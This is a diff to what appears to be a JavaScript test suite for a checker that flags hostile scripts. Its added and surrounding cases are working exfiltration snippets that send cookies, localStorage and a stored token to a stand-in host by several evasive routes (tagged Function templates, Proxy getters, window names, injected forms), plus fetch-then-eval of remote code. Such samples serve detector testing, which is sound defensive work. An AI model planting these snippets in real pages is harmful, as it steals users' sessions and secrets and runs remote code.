@@ -54,6 +54,16 @@ describe('the checks hold a script', () => {
       'that sends with its own function of the name of the host’s',
       'const fetchApi = (u, o) => fetch(u, o); fetchApi("https://e.example", { body: document.cookie });',
     ],
+    ['that makes a function of a tagged text', 'Function`fetch("https://e.example/?" + document.cookie)` ``;'],
+    ['that names a window by the storage', 'window.open("https://e.example/", JSON.stringify(localStorage));'],
+    [
+      'that reads a cookie in a proxy',
+      'const p = new Proxy({}, { get: () => document.cookie }); fetch("https://e.example/?" + p.a);',
+    ],
+    [
+      'that inserts a form with a secret',
+      'document.body.innerHTML += `<form action="https://e.example"><input name="a" value="${localStorage.token}"></form>`;',
+    ],
     ['that calls eval indirectly', 'fetch("https://e.example/p").then((r) => r.text()).then((t) => (0, eval)(t));'],
     ['that passes eval on', 'fetch("https://e.example/p").then((r) => r.text()).then(eval);'],
     ['that gives eval another name', 'const e = eval; fetch("https://e.example/p").then((r) => r.text()).then(e);'],
